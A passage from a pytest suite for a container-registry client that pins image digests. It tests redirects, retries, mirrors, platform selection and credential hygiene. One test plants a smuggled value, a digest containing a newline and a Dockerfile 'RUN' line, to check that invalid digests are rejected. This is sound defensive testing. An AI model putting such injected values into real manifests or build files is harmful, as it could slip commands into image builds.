                                                            "Docker-Content-Digest": "sha256:" + "a" * 64})
    assert make_client(clock).resolve(parse(f"{registry}/app:1")).digest == "sha256:" + "a" * 64


@pytest.mark.parametrize("hostport", ["localhost", "LOCALHOST:1", "a.localhost:5000", "127.0.0.1", "[::1]:80", "::1"])
def test_is_loopback(hostport: str) -> None:
    assert is_loopback(hostport)


@pytest.mark.parametrize("hostport", ["localhost.example.com", "10.0.0.1", "192.168.1.1:5000", "example.com"])
def test_is_not_loopback(hostport: str) -> None:
    assert not is_loopback(hostport)


def test_insecure_host_uses_http_without_credentials(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, "http://registry.lan:5000", auth="basic", basic=("u", "p"))
    keychain = FakeKeychain({"registry.lan:5000": Credential("u", "p", "docker config")})
    client = make_client(clock, keychain, insecure=["registry.lan:5000"])
    with pytest.raises(AuthError, match=r"never sent over plain http to registry.lan:5000"):
        client.resolve(parse("registry.lan:5000/app:1"))
    assert keychain.asked == []


def test_certs_d_verify_path(rsps: responses.RequestsMock, clock: FakeTime, tmp_path: Any) -> None:
    other = tmp_path / "empty"
    other.mkdir()
    ca = tmp_path / "certs.d" / "registry.example.com:5000" / "ca.crt"
    ca.parent.mkdir(parents=True)
    ca.write_text("dummy")
    url = "https://registry.example.com:5000/v2/app/manifests/1"
    rsps.add("HEAD", url, headers={"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "a" * 64})
    rsps.add("HEAD", f"{REG}/v2/app/manifests/1", headers={"Content-Type": mf.OCI_INDEX,
                                                        "Docker-Content-Digest": "sha256:" + "b" * 64})
    client = make_client(clock, ca_dirs=[str(other), str(tmp_path / "certs.d")])
    client.resolve(parse("registry.example.com:5000/app:1"))
    client.resolve(parse("registry.example.com/app:1"))
    session = client._session
    assert isinstance(session, RecordingSession)
    assert session.calls[0]["verify"] == str(ca)
    assert session.calls[1]["verify"] is None  # session / REQUESTS_CA_BUNDLE decide


def test_tls_failure_message(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/1", body=requests.exceptions.SSLError("certificate verify failed"))
    client = make_client(clock, ca_dirs=["/etc/docker/certs.d"])
    with pytest.raises(RegistryConnectionError) as info:
        client.resolve(parse("registry.example.com/app:1"))
    message = str(info.value)
    assert "registry.example.com" in message
    assert "/etc/docker/certs.d/registry.example.com/ca.crt" in message
    assert "REQUESTS_CA_BUNDLE" in message
    assert clock.sleeps == []  # a TLS failure is not temporary


# ------------------------------------------------------------------------------------------------ redirects


def _redirecting(rsps: responses.RequestsMock, first: str, target: str) -> list[requests.PreparedRequest]:
    seen: list[requests.PreparedRequest] = []

    def redirect(request: requests.PreparedRequest) -> tuple[int, dict[str, str], bytes]:
        seen.append(request)
        return 307, {"Location": target}, b""

    def final(request: requests.PreparedRequest) -> tuple[int, dict[str, str], bytes]:
        seen.append(request)
        return 200, {"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "a" * 64}, b""

    rsps.add_callback("HEAD", first, callback=redirect)
    absolute = urljoin(first, target).split("?")[0]
    rsps.add_callback("HEAD", re.compile(re.escape(absolute) + ".*"), callback=final)
    return seen


def _basic_client(clock: FakeTime) -> RegistryClient:
    keychain = FakeKeychain({"registry.example.com": Credential("u", "p", "docker config")})
    client = make_client(clock, keychain)
    # Pretend the Basic challenge was already learned, so the first request carries credentials.
    client._challenges[REG] = __import__("pin_images.challenge", fromlist=["Challenge"]).Challenge("basic")
    return client


def test_redirect_same_host_keeps_auth(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    seen = _redirecting(rsps, f"{REG}/v2/app/manifests/1", f"{REG}/storage/abc")
    _basic_client(clock).resolve(parse("registry.example.com/app:1"))
    assert [r.headers.get("Authorization", "")[:6] for r in seen] == ["Basic ", "Basic "]


def test_redirect_other_host_drops_auth(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    seen = _redirecting(rsps, f"{REG}/v2/app/manifests/1", "https://cdn.example.net/blob?sig=1")
    _basic_client(clock).resolve(parse("registry.example.com/app:1"))
    assert "Authorization" in seen[0].headers
    assert "Authorization" not in seen[1].headers
    assert seen[1].url == "https://cdn.example.net/blob?sig=1"


def test_redirect_relative_location(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    seen = _redirecting(rsps, f"{REG}/v2/app/manifests/1", "/elsewhere/1")
    make_client(clock).resolve(parse("registry.example.com/app:1"))
    assert seen[1].url == f"{REG}/elsewhere/1"


def test_redirect_loop(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/1", status=302, headers={"Location": f"{REG}/b"})
    rsps.add("HEAD", f"{REG}/b", status=302, headers={"Location": f"{REG}/v2/app/manifests/1"})
    with pytest.raises(BadResponseError, match="redirect loop"):
        make_client(clock).resolve(parse("registry.example.com/app:1"))


def test_too_many_redirects(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/1", status=302, headers={"Location": f"{REG}/r0"})
    for i in range(10):
        rsps.add("HEAD", f"{REG}/r{i}", status=302, headers={"Location": f"{REG}/r{i + 1}"})
    with pytest.raises(BadResponseError, match="more than 5 redirects"):
        make_client(clock).resolve(parse("registry.example.com/app:1"))


# ------------------------------------------------------------------------------------------------ retries


def test_retry_5xx_then_success(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/1"
    rsps.add("HEAD", url, status=503)
    rsps.add("HEAD", url, status=502)
    rsps.add("HEAD", url, headers={"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "a" * 64})
    client = make_client(clock)
    assert client.resolve(parse("registry.example.com/app:1")).digest == "sha256:" + "a" * 64
    assert clock.sleeps == [0.5, 1.0]
    assert client.stats.retries == 2


def test_retry_5xx_exhausted(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/1", status=500)
    with pytest.raises(RegistryConnectionError, match=r"registry.example.com answered HTTP 500 \(after 3 tries\)"):
        make_client(clock).resolve(parse("registry.example.com/app:1"))
    assert clock.sleeps == [0.5, 1.0]


def test_429_retry_after_is_per_host(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/1"
    rsps.add("HEAD", url, status=429, headers={"Retry-After": "7"})
    rsps.add("HEAD", url, headers={"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "a" * 64})
    rsps.add("HEAD", "https://other.example.com/v2/app/manifests/1",
             headers={"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "b" * 64})
    client = make_client(clock)
    assert client.resolve(parse("registry.example.com/app:1")).digest == "sha256:" + "a" * 64
    assert clock.sleeps == [7.0]
    assert client.stats.rate_limited == 1
    client.resolve(parse("other.example.com/app:1"))
    assert clock.sleeps == [7.0]


def test_429_blocks_other_requests_to_same_host_only(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/1", status=429, headers={"Retry-After": "20"})
    rsps.add("HEAD", re.compile(r"https://(registry|other)\.example\.com/v2/.*"),
             headers={"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "a" * 64})
    client = make_client(clock, retries=1)
    with pytest.raises(RegistryConnectionError, match=r"rate limited by registry.example.com"):
        client.resolve(parse("registry.example.com/app:1"))
    client.resolve(parse("other.example.com/x:1"))
    assert clock.sleeps == []
    client.resolve(parse("registry.example.com/y:1"))
    assert clock.sleeps == [20.0]  # the host's back-off applies to its other requests


def test_retry_after_http_date_capped(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/1"
    rsps.add("HEAD", url, status=503, headers={"Retry-After": "Wed, 21 Oct 2099 07:28:00 GMT"})
    rsps.add("HEAD", url, headers={"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "a" * 64})
    client = make_client(clock, max_retry_wait=12.5)
    client.resolve(parse("registry.example.com/app:1"))
    assert clock.sleeps == [12.5]


def test_retry_after_past_date(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/1"
    rsps.add("HEAD", url, status=429, headers={"Retry-After": "Wed, 21 Oct 2015 07:28:00 GMT"})
    rsps.add("HEAD", url, headers={"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "a" * 64})
    client = make_client(clock)
    client.resolve(parse("registry.example.com/app:1"))
    assert clock.sleeps == []


def test_429_exhausted_message(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{HUB}/v2/library/python/manifests/3", status=429,
             headers={"ratelimit-remaining": "0;w=21600"})
    with pytest.raises(RegistryConnectionError, match=r"rate limited by registry-1.docker.io.*0;w=21600"):
        make_client(clock).resolve(parse("python:3"))
    assert clock.sleeps == [0.5, 1.0]


@pytest.mark.parametrize(
    ("exc", "text"),
    [
        (requests.ConnectionError("[Errno 111] Connection refused"), "connection refused"),
        (requests.exceptions.ConnectTimeout("timed out"), "connection timed out"),
        (requests.exceptions.ReadTimeout("read timed out"), "timed out waiting for a response"),
        (requests.ConnectionError("Failed to resolve: [Errno -2] Name or service not known"), "host name lookup"),
    ],
)
def test_connection_errors_are_wrapped(rsps: responses.RequestsMock, clock: FakeTime, exc: Exception,
                                       text: str) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/1", body=exc)
    with pytest.raises(RegistryConnectionError, match=f"cannot reach registry.example.com: {text}"):
        make_client(clock).resolve(parse("registry.example.com/app:1"))
    assert clock.sleeps == [0.5, 1.0]


def test_other_requests_exception_is_wrapped(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/1", body=requests.exceptions.InvalidHeader("value 'secret'"))
    with pytest.raises(RegistryConnectionError) as info:
        make_client(clock).resolve(parse("registry.example.com/app:1"))
    assert "secret" not in str(info.value)


def test_connection_error_then_success(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/1"
    rsps.add("HEAD", url, body=requests.ConnectionError("reset"))
    rsps.add("HEAD", url, headers={"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "a" * 64})
    client = make_client(clock)
    assert client.resolve(parse("registry.example.com/app:1")).digest == "sha256:" + "a" * 64
    assert clock.sleeps == [0.5]


# ------------------------------------------------------------------------------------------------ mirrors


def test_mirrors_in_order_then_upstream(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, "http://127.0.0.1:5000")  # empty: 404
    rsps.add("HEAD", re.compile(r"https://mirror\.gcr\.io/v2/.*"), body=requests.ConnectionError("refused"))
    hub = FakeRegistry(rsps, HUB, auth="bearer")
    digest = hub.push_image("library/python", AMD64, "3.12")[1]
    client = make_client(clock, mirrors={"docker.io": ["http://127.0.0.1:5000", "mirror.gcr.io"]})
    assert client.resolve(parse("python:3.12")).digest == digest


def test_mirror_hit_skips_upstream(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    mirror = FakeRegistry(rsps, "http://127.0.0.1:5000", auth="basic", basic=("m", "pw"))
    digest = mirror.push_image("library/python", AMD64, "3.12")[1]
    keychain = FakeKeychain({"127.0.0.1:5000": Credential("m", "pw", "docker config")})
    client = make_client(clock, keychain, mirrors={"docker.io": ["http://127.0.0.1:5000/"]})
    assert client.resolve(parse("python:3.12")).digest == digest
    assert keychain.asked == ["127.0.0.1:5000"]  # credentials looked up by the mirror's host


def test_mirror_for_local_registry(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    mirror = FakeRegistry(rsps, "http://127.0.0.1:5001")
    digest = mirror.push_image("app", AMD64, "1")[1]
    client = make_client(clock, mirrors={"localhost:5000": ["http://127.0.0.1:5001"]})
    assert client.resolve(parse("localhost:5000/app:1")).digest == digest


def test_platform_missing_on_a_mirror_does_not_fall_through(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    mirror = FakeRegistry(rsps, "http://127.0.0.1:5000")
    mirror.push_image("library/tool", AMD64, "1")
    # No upstream is registered: responses fails the test if the client goes on to Docker Hub.
    client = make_client(clock, mirrors={"docker.io": ["http://127.0.0.1:5000"]})
    with pytest.raises(NotFoundError, match=r"single-platform linux/amd64 image, not linux/arm64"):
        client.resolve(parse("tool:1"), Platform("linux", "arm64"))
    assert clock.sleeps == []


def test_mirror_auth_error_is_not_masked(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", "https://mirror.example.com/v2/library/python/manifests/3", status=403)
    client = make_client(clock, mirrors={"docker.io": ["https://mirror.example.com"]})
    with pytest.raises(AuthError, match=r"mirror.example.com"):
        client.resolve(parse("python:3"))


def test_all_fail_reports_upstream(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, "http://127.0.0.1:5000")
    FakeRegistry(rsps, HUB, auth="bearer")
    client = make_client(clock, mirrors={"docker.io": ["http://127.0.0.1:5000"]})
    with pytest.raises(NotFoundError, match=r"^tag 3.12 not found in docker.io/library/python$"):
        client.resolve(parse("python:3.12"))


# ------------------------------------------------------------------------------------------------ platforms


@pytest.mark.parametrize(
    ("wanted", "expected"),
    [
        (Platform("linux", "arm64"), ARM64),  # arm64 means arm64/v8
        (Platform("linux", "arm64", "v8"), ARM64),
        (Platform("linux", "arm"), ARMV7),  # arm means arm/v7
        (Platform("linux", "arm", "v6"), ARMV6),
        (Platform("linux", "amd64"), AMD64),
        (Platform("linux", "amd64", "v1"), AMD64),
        (Platform("linux", "x86_64"), AMD64),
        (Platform("Linux", "aarch64"), ARM64),
    ],
)
def test_platform_selection(rsps: responses.RequestsMock, clock: FakeTime, wanted: Platform,
                            expected: Platform) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    _, digests = push_multiarch(registry, "library/python", "3.12")
    client = make_client(clock)
    result = client.resolve(parse("python:3.12"), wanted)
    assert result.digest == digests[expected]
    assert result.media_type == mf.OCI_MANIFEST
    assert not result.is_index
    # One index GET (sent twice: the anonymous probe met the 401), no HEAD: the child digest is in the index.
    assert (client.stats.manifest_get, client.stats.manifest_head, client.stats.blob_get) == (2, 0, 0)


def test_platform_missing(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    push_multiarch(registry, "library/python", "3.12")
    with pytest.raises(NotFoundError) as info:
        make_client(clock).resolve(parse("python:3.12"), Platform("linux", "s390x"))
    assert str(info.value) == (
        "no linux/s390x image for tag 3.12 in docker.io/library/python "
        "(available: linux/amd64, linux/arm/v6, linux/arm/v7, linux/arm64/v8, unknown/unknown)"
    )


def test_platform_single_manifest_matches(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    _, digest = registry.push_image("library/tool", ARM64, "1")
    client = make_client(clock)
    assert client.resolve(parse("tool:1"), Platform("linux", "arm64")).digest == digest
    assert client.stats.blob_get == 1


def test_platform_single_manifest_mismatch(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    registry.push_image("library/tool", AMD64, "1")
    with pytest.raises(NotFoundError, match=r"tag 1 in docker.io/library/tool is a single-platform linux/amd64 image, "
                                            r"not linux/arm64"):
        make_client(clock).resolve(parse("tool:1"), Platform("linux", "arm64"))


def test_platform_config_blob_tampered(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG)
    _, _ = registry.push_image("tool", AMD64, "1")
    for digest in list(registry.blobs):
        registry.blobs[digest] = config_blob("linux", "arm64")
    with pytest.raises(BadResponseError, match="config blob does not match its digest"):
        make_client(clock).resolve(parse("registry.example.com/tool:1"), Platform("linux", "arm64"))


def test_platform_index_body_verified(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    body = index_manifest([(image_manifest(config_blob()), mf.OCI_MANIFEST, AMD64)])
    rsps.add("GET", f"{REG}/v2/app/manifests/1", body=body,
             headers={"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "0" * 64})
    with pytest.raises(BadResponseError, match="does not match"):
        make_client(clock).resolve(parse("registry.example.com/app:1"), AMD64)


def test_platform_child_with_bad_digest(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    doc = {"schemaVersion": 2, "mediaType": mf.OCI_INDEX, "manifests": [
        {"mediaType": mf.OCI_MANIFEST, "digest": "sha256:abc\nRUN x", "size": 1,
         "platform": {"os": "linux", "architecture": "amd64"}}]}
    rsps.add("GET", f"{REG}/v2/app/manifests/1", body=json.dumps(doc).encode(), headers={"Content-Type": mf.OCI_INDEX})
    with pytest.raises(BadResponseError, match="invalid digest"):
        make_client(clock).resolve(parse("registry.example.com/app:1"), AMD64)


# ------------------------------------------------------------------------------------------------ --update


@pytest.fixture
def moved_tag(rsps: responses.RequestsMock) -> tuple[FakeRegistry, str, dict[Platform, str], str, dict[Platform, str]]:
    """python:3.12 pointed at one index, then re-pointed at a rebuilt one; both still exist by digest."""
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    old_index, old_children = push_multiarch(registry, "library/python", "3.12", salt="old")
    new_index, new_children = push_multiarch(registry, "library/python", "3.12", salt="new")
    assert old_index != new_index
    return registry, old_index, old_children, new_index, new_children


def test_update_index_pin_stays_index(moved_tag: Any, clock: FakeTime) -> None:
    _, old_index, _, new_index, _ = moved_tag
    result = make_client(clock).resolve_update(parse(f"python:3.12@{old_index}"), old_index)
    assert result.digest == new_index
    assert result.is_index


def test_update_platform_pin_stays_platform(moved_tag: Any, clock: FakeTime) -> None:
    _, _, old_children, new_index, new_children = moved_tag
    old = old_children[ARM64]
    result = make_client(clock).resolve_update(parse(f"python:3.12@{old}"), old)
    assert result.digest == new_children[ARM64]
    assert result.digest != new_index
    assert not result.is_index


def test_update_arm_v6_pin_keeps_variant(moved_tag: Any, clock: FakeTime) -> None:
    _, _, old_children, _, new_children = moved_tag
    old = old_children[ARMV6]
    assert make_client(clock).resolve_update(parse(f"python:3.12@{old}"), old).digest == new_children[ARMV6]


def test_update_unchanged(moved_tag: Any, clock: FakeTime) -> None:
    _, _, _, new_index, new_children = moved_tag
    client = make_client(clock)
    assert client.resolve_update(parse("python:3.12"), new_index).digest == new_index
    still = new_children[AMD64]
    assert client.resolve_update(parse("python:3.12"), still).digest == still


def test_update_pinned_digest_gone(moved_tag: Any, clock: FakeTime) -> None:
    gone = "sha256:" + "9" * 64
    with pytest.raises(NotFoundError, match="no longer exists"):
        make_client(clock).resolve_update(parse("python:3.12"), gone)


def test_update_with_explicit_platform(moved_tag: Any, clock: FakeTime) -> None:
    _, old_index, _, _, new_children = moved_tag
    result = make_client(clock).resolve_update(parse("python:3.12"), old_index, Platform("linux", "arm64"))
    assert result.digest == new_children[ARM64]


def test_update_rejects_bad_current(clock: FakeTime) -> None:
    with pytest.raises(RegistryError):
        make_client(clock).resolve_update(parse("python:3.12"), "sha256:nope")


# ------------------------------------------------------------------------------------------------ hygiene


def test_no_secret_in_any_error(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, HUB, auth="bearer", basic=("bob", "hunter2"))
    keychain = FakeKeychain({"docker.io": Credential("bob", "hunter2-wrong", "docker config")})
    with pytest.raises(RegistryError) as info:
        make_client(clock, keychain).resolve(parse("bob/app:1"))
    assert "hunter2" not in str(info.value)
    assert "hunter2" not in repr(keychain.creds["docker.io"])
